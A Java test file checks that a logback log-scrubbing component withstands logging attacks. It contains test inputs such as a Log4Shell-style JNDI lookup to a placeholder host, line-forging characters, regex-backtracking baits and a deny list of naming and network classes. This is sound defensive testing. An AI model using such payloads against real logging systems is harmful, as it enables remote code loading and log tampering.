package dev.tacit.audit.logback;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.encoder.JsonEncoder;
import ch.qos.logback.classic.encoder.PatternLayoutEncoder;
import dev.tacit.audit.logback.LogbackFixture.Sink;
import dev.tacit.audit.scrub.Scrubber;
import dev.tacit.audit.scrub.Shop;
import dev.tacit.json.Json;
import java.io.IOException;
import java.lang.module.ModuleDescriptor;
import java.lang.module.ModuleDescriptor.Requires;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.helpers.BasicMarkerFactory;

/**
 * What attackers have done to logging libraries; each ends at this one. L1 lookups, L2 lookups of themselves, L3 forged
 * lines, L4 malformed output, L5 slow patterns, L6 data in pieces, L7 hostile objects, L8 configurations.
 */
class AttacksTest {
    private final LogbackFixture logback = new LogbackFixture();
    private final Sink sink = logback.sink("SINK");

    @BeforeEach
    void install() {
        Scrubbing.install(logback.context, Shop.schemas());
    }

    /** CVE-2021-44228, CVE-2021-45046. */
    @Test
    void l1_lookupInAnyPart_staysLiteralText() {
        String lookup = "${jndi:ldap://evil.example/a}";
        logback.mdc.put(lookup, lookup);
        logback.log
                .atError()
                .addMarker(new BasicMarkerFactory().getDetachedMarker(lookup))
                .addKeyValue(lookup, lookup)
                .setCause(new IllegalStateException(lookup))
                .log(lookup + " {}", lookup);
        assertThat(sink.line()).isEqualTo(lookup + " " + lookup);
        assertThat(sink.last().getMDCPropertyMap()).containsEntry(lookup, lookup);
        assertThat(sink.last().getThrowableProxy().getMessage()).isEqualTo(lookup);
        assertThat(logback.cover("SINK").counters().withheld()).isZero();
    }

    /** CVE-2021-45105. */
    @Test
    void l2_selfReferentialLookup_isNotInterpolated() {
        logback.log.info("${a:${a}}");
        assertThat(sink.line()).isEqualTo("${a:${a}}");
        logback.log.info("${".repeat(500_000));
        assertThat(sink.line()).startsWith("${${").contains("[truncated ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"\r\n", "\n", "\u0085", "\u2028", "\u2029", "\u001b[2J", "\u202e", "\0", "\ud800", "\ufffe"})
    void l3_characterThatForgesALine_isEscapedInEveryPart(String forger) {
        String text = "a" + forger + "b";
        logback.mdc.put("k", text);
        logback.log.info(text);
        logback.log.atInfo().addKeyValue("k", text).log("x {}", text);
        PatternLayoutEncoder pattern = new PatternLayoutEncoder();
        pattern.setContext(logback.context);
        pattern.setPattern("%mdc %kvp %msg%n");
        pattern.start();
        assertThat(sink.events).hasSize(2).allSatisfy(event -> {
            String line = new String(pattern.encode(event), UTF_8);
            assertThat(line).endsWith(System.lineSeparator());
            assertThat(line.strip()).doesNotContain(forger).matches("[ -~]*");
        });
    }

    /** CVE-2026-34480, CVE-2026-34481 in other layouts. */
    @Test
    void l4_structuredOutput_parsesStrictly() {
        logback.mdc.put("q\"", "\u0001\"\\ \uffff");
        logback.log
                .atWarn()
                .addKeyValue("nan", Double.NaN)
                .setCause(new IllegalStateException("\b\f\u000b\"ann@x.org\""))
                .log("{} {} {}", Double.POSITIVE_INFINITY, Shop.annsOrder(), "\"\ud800");
        JsonEncoder json = new JsonEncoder();
        json.setContext(logback.context);
        json.start();
        String line = new String(json.encode(sink.last()), UTF_8);
        assertThat(Json.parse(line)).isNotNull();
        assertThat(line).contains("\"Infinity\"", "<email>");
        assertThat(sink.last().getArgumentArray()).allMatch(String.class::isInstance);
    }

    @ParameterizedTest
    @ValueSource(strings = {"a@", "@", "1", "4111 ", "1.", "+1", "a.b@c.", "::", "(a+)+", "\n"})
    void l5_timeGrowsLinearlyWithTheText(String bait) {
        Scrubber scrubber = Scrubber.withLabels(Shop.schemas());
        long small = nanos(scrubber, bait.repeat(16_000 / bait.length()));
        long large = nanos(scrubber, bait.repeat(64_000 / bait.length()));
        assertThat(large).as("four times the text").isLessThan(Math.max(small * 16, 50_000_000));
        logback.log.info(bait.repeat(10_000_000 / bait.length()));
        assertThat(sink.line()).hasSizeLessThanOrEqualTo(64 * 1024).contains("[truncated ");
    }

    /** The fastest of several runs, so that a busy machine does not decide. */
    private static long nanos(Scrubber scrubber, String text) {
        long fastest = Long.MAX_VALUE;
        for (int i = 0; i < 10; i++) {
            long start = System.nanoTime();
            assertThat(scrubber.text(text)).isNotNull();
            fastest = Math.min(fastest, System.nanoTime() - start);
        }
        return fastest;
    }

    @Test
    void l6_personalDataSplitOrEncoded_isHidden() {
        logback.log.info("{}@{}", "ann", "x.org");
        logback.log.info("{}{}", "4111 1111 ", "1111 1111");
        logback.log.info("{}", List.of(List.of(Shop.annsOrder()), "ann%40x.org"));
        Exception thrown = new Exception("outer", new Exception("ann@x.org"));
        thrown.addSuppressed(new Exception("4111-1111-1111-1111"));
        logback.log.error("mail=ann%40x.org", thrown);
        assertThat(sink.written())
                .doesNotContain("ann@", "ann%40", "4111 1111", "4111-1111", "Ann")
                .contains("<card>");
    }

    /** Full-width and Arabic-Indic digits, full-width signs. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\uff14\uff11\uff11\uff11 \uff11\uff11\uff11\uff11 \uff11\uff11\uff11\uff11 \uff11\uff11\uff11\uff11",
                "\uff0b\uff14\uff14\uff12\uff10\uff17\uff19\uff14\uff16\uff10\uff10\uff11\uff18",
                "\u0664\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661",
                "\uff11\uff19\uff12.0.2.7",
                "\uff41\uff4e\uff4e\uff20x\uff0eorg"
            })
    void l6_personalDataInFullWidthSigns_isHiddenInEveryPart(String value) {
        logInEveryPart(value);
        assertThat(sink.written()).doesNotContain(value);
    }

    /** Zero-width joiner, non-joiner and space, word joiner, byte order mark, soft hyphen. */
    @ParameterizedTest
    @ValueSource(strings = {"\u200d", "\u200c", "\u200b", "\u2060", "\ufeff", "\u00ad"})
    void l6_personalDataWithInvisibleCharactersInIt_isHiddenInEveryPart(String invisible) {
        logInEveryPart("ann" + invisible + "@x" + invisible + ".org");
        logInEveryPart("4111" + invisible + "1111" + invisible + "1111" + invisible + "1111");
        logInEveryPart("192.0" + invisible + ".2.7");
        assertThat(sink.written().replace(invisible, "")).doesNotContain("ann@", "x.org", "41111111", "192.0.2.7");
        assertThat(sink.written()).contains("<email>", "<card>", "<ip>");
    }

    private void logInEveryPart(String value) {
        logback.mdc.put("note", value);
        logback.log
                .atError()
                .addKeyValue("note", value)
                .addMarker(new BasicMarkerFactory().getDetachedMarker(value))
                .setCause(new IllegalStateException(value, new IllegalStateException("because of " + value)))
                .log("of " + value + " to {}", value);
        logback.mdc.remove("note");
        int half = value.length() / 2;
        logback.log.info("{}{}", value.substring(0, half), value.substring(half));
    }

    /** Listed in docs/log-scrubbing.md as not covered; if one is found some day, the list is to be shortened. */
    @Test
    void l6_encodingsThatAreListedAsNotCovered_areNotFound() {
        for (String encoded : List.of(
                "YW5uQHgub3Jn",
                "616e6e40782e6f7267",
                "ann at x dot org",
                "\ud835\udfd2\ud835\udfcf11 1111 1111 1111")) {
            logback.log.info(encoded);
            assertThat(sink.line()).isEqualTo(encoded);
        }
    }

    /** {@link WithheldEventTest} goes through more of them. */
    @ParameterizedTest
    @EnumSource(Hostile.class)
    void l7_hostileToString_endsHereAndShowsNothing(Hostile hostile) {
        assertThatCode(() -> logback.log.error(
                        "this is {} of ann@x.org", hostile.object(logback.log), new Exception("ann@x.org")))
                .doesNotThrowAnyException();
        assertThat(sink.events).hasSizeBetween(1, 3);
        assertThat(sink.line()).hasSizeLessThanOrEqualTo(64 * 1024);
        assertThat(sink.written()).doesNotContain("ann@x.org");
    }

    /** What a text can do to who asks for it. */
    enum Hostile {
        THROWS {
            @Override
            String text(Object self, Logger log) {
                throw new IllegalStateException("ann@x.org");
            }
        },
        ENDS_NEVER {
            @Override
            String text(Object self, Logger log) {
                return "ann@x.org" + self + self;
            }
        },
        IS_HUGE {
            @Override
            String text(Object self, Logger log) {
                return "ann@x.org ".repeat(1_000_000);
            }
        },
        LOGS_ITSELF {
            @Override
            String text(Object self, Logger log) {
                log.error("I am {} of ann@x.org", self);
                return "me, ann@x.org";
            }
        };

        abstract String text(Object self, Logger log);

        Object object(Logger log) {
            return new Object() {
                @Override
                public String toString() {
                    return text(this, log);
                }
            };
        }
    }

    /** CVE-2023-6378, CVE-2024-12798, CVE-2024-12801, CVE-2025-11226 came in through evaluators, receivers and XML. */
    @Test
    void l8_scrubber_bringsNoEvaluatorReceiverOrXml() throws IOException, URISyntaxException {
        Path classes = Path.of(Scrubbing.class
                .getProtectionDomain()
                .getCodeSource()
                .getLocation()
                .toURI());
        try (Stream<Path> files = Files.list(classes.resolve("dev/tacit/audit/logback"))) {
            assertThat(files.filter(file -> file.toString().endsWith(".class")))
                    .isNotEmpty()
                    .allSatisfy(file -> assertThat(Files.readString(file, java.nio.charset.StandardCharsets.ISO_8859_1))
                            .doesNotContain(
                                    "logback/core/boolex",
                                    "logback/classic/net",
                                    "org/codehaus/janino",
                                    "java/io/ObjectInputStream",
                                    "javax/naming",
                                    "javax/xml",
                                    "org/xml/sax",
                                    "java/net/"));
        }
        ModuleDescriptor module = Scrubbing.class.getModule().getDescriptor();
        assertThat(module.requires().stream().map(Requires::name))
                .doesNotContainAnyElementsOf(Arrays.asList("java.naming", "java.xml"));
    }
}
